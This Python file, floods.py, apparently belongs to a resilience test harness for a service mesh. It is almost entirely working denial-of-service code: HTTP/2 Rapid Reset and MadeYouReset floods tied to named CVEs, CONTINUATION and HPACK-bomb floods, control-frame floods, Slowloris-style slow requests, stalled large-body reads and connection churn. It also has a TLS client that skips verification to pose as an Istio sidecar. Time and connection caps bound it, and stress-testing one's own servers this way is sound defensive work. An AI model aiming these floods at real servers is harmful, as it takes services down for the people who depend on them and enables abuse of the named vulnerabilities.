"""What attackers send, against one server and for a bounded time: `floods.py FLOOD HOST PORT SECONDS`.

`floods.py connects HOST PORT COUNT` connects and resets so often instead. A fifth word is the directory of an identity,
which `tls-handshakes` shows.
"""

import contextlib
import itertools
import select
import selectors
import socket
import ssl
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from functools import partial

CONNECTIONS = 4
"""That each flood uses at once: enough to show, and a bound on what this program does."""
CROWD = 250
"""Connections of a flood that consists of connections."""
BATCH = 32768
"""Bytes handed to the kernel at once."""
MOST_SECONDS = 120.0
MOST_CONNECTS = 50_000

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING = 0, 1, 2, 3, 4, 6
WINDOW_UPDATE, CONTINUATION = 8, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame, whether or not it makes sense."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name: bytes, value: bytes, *, index: bool = False) -> bytes:
    """One field as HPACK spells it without compression; names and values are short of 127 bytes."""
    start = b"\x40" if index else b"\x00"
    return start + bytes([len(name)]) + name + bytes([len(value)]) + value


def request(method: bytes, path: bytes = b"/1") -> bytes:
    """A request's field block."""
    pseudo = {b":method": method, b":scheme": b"http", b":authority": b"server", b":path": path}
    return b"".join(literal(name, value) for name, value in pseudo.items())


def settings(*pairs: tuple[int, int]) -> bytes:
    """A SETTINGS frame."""
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *pair) for pair in pairs))


GREETING = PREFACE + settings()
GET = request(b"GET")
POST = request(b"POST")


def streams() -> Iterator[int]:
    """The numbers that a client may give its streams."""
    return itertools.count(1, 2)


def over_and_over(piece: bytes) -> Callable[[], Iterator[bytes]]:
    """The same bytes, as often as they are taken."""
    return lambda: itertools.repeat(piece * max(1, BATCH // len(piece)))


def rapid_reset() -> Iterator[bytes]:
    """Requests that are taken back before they can be answered (CVE-2023-44487)."""
    cancel = struct.pack(">I", 8)
    for number in streams():
        yield frame(HEADERS, END_STREAM | END_HEADERS, number, GET) + frame(
            RST_STREAM, 0, number, cancel
        )


def made_you_reset() -> Iterator[bytes]:
    """Requests followed by what makes the server take them back (CVE-2025-8671)."""
    too_much = struct.pack(">I", 2**31 - 1)
    for number in streams():
        yield frame(HEADERS, END_STREAM | END_HEADERS, number, GET) + frame(
            WINDOW_UPDATE, 0, number, too_much
        )


def hpack_bomb() -> Iterator[bytes]:
    """One long field in the table, then blocks of a few KiB that name it thousands of times."""
    value = b"x" * 4000
    block = b"\x40\x01a\x7f" + bytes([0x80 | (4000 - 127) & 0x7F, (4000 - 127) >> 7]) + value
    for number in streams():
        yield frame(HEADERS, END_STREAM | END_HEADERS, number, GET + block + b"\xbe" * 12000)


def priorities() -> Iterator[bytes]:
    """Priorities of streams that do not exist."""
    for number in streams():
        yield frame(PRIORITY, 0, number, struct.pack(">IB", 0, 15))


def tiny_windows() -> Iterator[bytes]:
    """A large body, fetched byte by byte."""
    one = struct.pack(">I", 1)
    yield b"".join(
        frame(HEADERS, END_STREAM | END_HEADERS, number, request(b"GET", b"/64m"))
        for number in range(1, 201, 2)
    )
    while True:
        yield b"".join(frame(WINDOW_UPDATE, 0, number, one) for number in range(1, 201, 2))


def fields() -> Iterator[bytes]:
    """Fields without end."""
    for number in itertools.count():
        yield b"x-%d: %b\r\n" % (number, b"y" * 100)


@dataclass(frozen=True)
class Flood:
    """What one connection of a flood says, and whether it listens."""

    more: Callable[[], Iterator[bytes]]
    opening: bytes = b""
    reads: bool = True


def client_context(identity: str = "") -> ssl.SSLContext:
    """What makes a sidecar of the mesh take a connection for another sidecar's; it believes everybody."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["istio"])
    if identity:
        context.load_cert_chain(f"{identity}/tls.crt", f"{identity}/tls.key")
    return context


def client_hello() -> bytes:
    """How a sidecar begins."""
    said = ssl.MemoryBIO()
    begun = client_context().wrap_bio(ssl.MemoryBIO(), said)
    with contextlib.suppress(ssl.SSLWantReadError):
        begun.do_handshake()
    return said.read()


HELLO = client_hello()
GARBAGE = b"\x17\x03\x03\x40\x00" + bytes(0x4000)
"""A record that nobody has encrypted."""
POST_1 = b"POST / HTTP/1.1\r\nHost: server\r\nTransfer-Encoding: chunked\r\n\r\n"
FLOODS = {
    "rapid-reset": Flood(rapid_reset, GREETING),
    "made-you-reset": Flood(made_you_reset, GREETING),
    "continuation": Flood(
        over_and_over(frame(CONTINUATION, 0, 1, literal(b"a", b"b" * 100) * 100)),
        GREETING + frame(HEADERS, END_STREAM, 1, GET),
    ),
    "empty-continuation": Flood(
        over_and_over(frame(CONTINUATION, 0, 1)), GREETING + frame(HEADERS, END_STREAM, 1, GET)
    ),
    "hpack-bomb": Flood(hpack_bomb, GREETING),
    "settings": Flood(over_and_over(settings((4, 65535))), GREETING, reads=False),
    "ping": Flood(over_and_over(frame(PING, 0, 0, bytes(8))), GREETING, reads=False),
    "priority": Flood(priorities, GREETING),
    "empty-data": Flood(
        over_and_over(frame(DATA, 0, 1)), GREETING + frame(HEADERS, END_HEADERS, 1, POST)
    ),
    "window-update": Flood(
        over_and_over(frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1))),
        GREETING + frame(HEADERS, END_HEADERS, 1, POST),
    ),
    "tiny-windows": Flood(tiny_windows, PREFACE + settings((4, 1))),
    "fields": Flood(fields, b"GET / HTTP/1.1\r\nHost: server\r\n"),
    "target": Flood(over_and_over(b"a" * 1000), b"GET /"),
    "pipelining": Flood(over_and_over(b"GET /1 HTTP/1.1\r\nHost: server\r\n\r\n")),
    "deaf-pipelining": Flood(
        over_and_over(b"GET /1 HTTP/1.1\r\nHost: server\r\n\r\n"), reads=False
    ),
    "tiny-chunks": Flood(over_and_over(b"1\r\nx\r\n"), POST_1),
    "tls-garbage": Flood(over_and_over(GARBAGE), HELLO),
    "long-chunk-lines": Flood(over_and_over(b"y" * 1000), POST_1 + b"1;x="),
}


@dataclass(frozen=True)
class Target:
    """Who is flooded, and until when."""

    host: str
    port: int
    until: float

    @property
    def over(self) -> bool:
        return time.monotonic() >= self.until

    @property
    def family(self) -> socket.AddressFamily:
        return socket.AF_INET6 if ":" in self.host else socket.AF_INET

    def dial(self) -> socket.socket:
        peer = socket.socket(self.family, socket.SOCK_STREAM)
        peer.settimeout(1)
        peer.connect((self.host, self.port))
        return peer


def pour(flood: Flood, target: Target) -> None:
    """Flood over one connection at a time until the time is up."""
    while not target.over:
        with contextlib.suppress(OSError), target.dial() as peer:
            peer.settimeout(0.05)
            _pour_into(peer, flood, target)


def _pour_into(peer: socket.socket, flood: Flood, target: Target) -> None:
    said = memoryview(flood.opening)
    source = flood.more()
    while not target.over:
        while len(said) < BATCH:
            said = memoryview(bytes(said) + next(source))
        with contextlib.suppress(TimeoutError):
            said = said[peer.send(said[:BATCH]) :]
        if flood.reads:
            while peer in select.select([peer], [], [], 0)[0]:
                if not peer.recv(1 << 20):
                    return


def crowd(opening: bytes, drip: bytes, target: Target) -> None:
    """Hold many connections, and say a little on each now and then; those that are ended are made anew."""
    with selectors.DefaultSelector() as waiting, contextlib.ExitStack() as held:
        while not target.over:
            while len(waiting.get_map()) < CROWD and not target.over:
                try:
                    peer = held.enter_context(target.dial())
                except TimeoutError:  # so many stand in the queue already
                    continue
                peer.setblocking(False)
                peer.sendall(opening)
                waiting.register(peer, selectors.EVENT_READ)
            _drip(waiting, drip)


def _drip(waiting: selectors.BaseSelector, drip: bytes) -> None:
    for key, _ in waiting.select(0.2):
        assert isinstance(key.fileobj, socket.socket)
        if _ended(key.fileobj):
            waiting.unregister(key.fileobj)
    for key in waiting.get_map().values():
        assert isinstance(key.fileobj, socket.socket)
        with contextlib.suppress(OSError):
            key.fileobj.send(drip)


def _ended(peer: socket.socket) -> bool:
    """Whether nothing more comes; what has come is taken and forgotten."""
    try:
        return not peer.recv(1 << 16)
    except OSError:
        return True


WORDS = (b"", b"GET /1 HTTP/1.1\r\n", b"GET /1 HTTP/1.1\r\nHost: server\r\n\r\n", PREFACE, b"\0")


def vanish(target: Target, most: int = MOST_CONNECTS) -> int:
    """Connect and reset, over and over, some with a word before, and return how often."""
    made = 0
    while made < most and not target.over:
        with contextlib.suppress(TimeoutError), target.dial() as peer:
            made += 1
            peer.sendall(WORDS[made % len(WORDS)])
            peer.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    return made


def shake_hands(target: Target, context: ssl.SSLContext) -> None:
    """Make one handshake after the other, each to its end."""
    while not target.over:
        with contextlib.suppress(OSError), target.dial() as peer, context.wrap_socket(peer):
            pass


READERS = 1000
STREAMS = 100
"""Streams that one HTTP/2 connection of a stalled reader's asks for."""
WIDE = 2**31 - 1
LARGE_GET = b"GET /64m HTTP/1.1\r\nHost: server\r\n\r\n"
LARGE_GETS = b"".join(
    frame(HEADERS, END_STREAM | END_HEADERS, number, request(b"GET", b"/64m"))
    for number in range(1, 2 * STREAMS, 2)
)
WIDE_OPEN = (
    PREFACE + settings((4, WIDE)) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", WIDE - 65535))
)
"""What an HTTP/2 client says that lets the server send everything, whether or not it takes it."""


def stall(opening: bytes, connections: int, target: Target) -> None:
    """Ask for large bodies and never read them, until the time is up."""
    with contextlib.ExitStack() as held:
        for _ in range(connections):
            peer = held.enter_context(socket.socket(target.family, socket.SOCK_STREAM))
            peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            peer.connect((target.host, target.port))
            peer.sendall(opening)
        print("asked", flush=True)
        threading.Event().wait(target.until - time.monotonic())


CROWDS: dict[str, Callable[[Target], object]] = {
    "silence": lambda target: crowd(b"", b"", target),
    "slow-heads": lambda target: crowd(b"GET / HTTP/1.1\r\nHost: server\r\n", b"x", target),
    "slow-bodies": lambda target: crowd(
        b"POST / HTTP/1.1\r\nHost: server\r\nContent-Length: 100000\r\n\r\n", b"x", target
    ),
    "slow-prefaces": lambda target: crowd(b"", PREFACE[:1], target),
    "vanishing": vanish,
    "tls-slow-hellos": lambda target: crowd(HELLO[:-100], HELLO[:1], target),
    "tls-half-handshakes": lambda target: crowd(HELLO, b"", target),
    "stalled-http1": lambda target: stall(LARGE_GET, READERS, target),
    "stalled-few-streams": lambda target: stall(GREETING + LARGE_GETS, 1, target),
    "stalled-streams": lambda target: stall(GREETING + LARGE_GETS, READERS // STREAMS, target),
    "stalled-wide-streams": lambda target: stall(
        WIDE_OPEN + LARGE_GETS, READERS // STREAMS, target
    ),
}


def main(name: str, host: str, port: str, seconds: str, identity: str = "") -> None:
    amount = float(seconds)
    target = Target(host, int(port), time.monotonic() + min(amount, MOST_SECONDS))
    if name == "connects":
        unhurried = replace(target, until=time.monotonic() + 2 * MOST_SECONDS)
        print(vanish(unhurried, min(int(amount), MOST_CONNECTS)))
    elif name in CROWDS:
        CROWDS[name](target)
    elif name == "tls-handshakes":
        side_by_side(partial(shake_hands, target, client_context(identity)))
    else:
        side_by_side(partial(pour, FLOODS[name], target))


def side_by_side(work: Callable[[], object]) -> None:
    """Do something on several connections at once, until it ends by itself."""
    threads = [threading.Thread(target=work) for _ in range(CONNECTIONS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


if __name__ == "__main__":
    main(*sys.argv[1:])
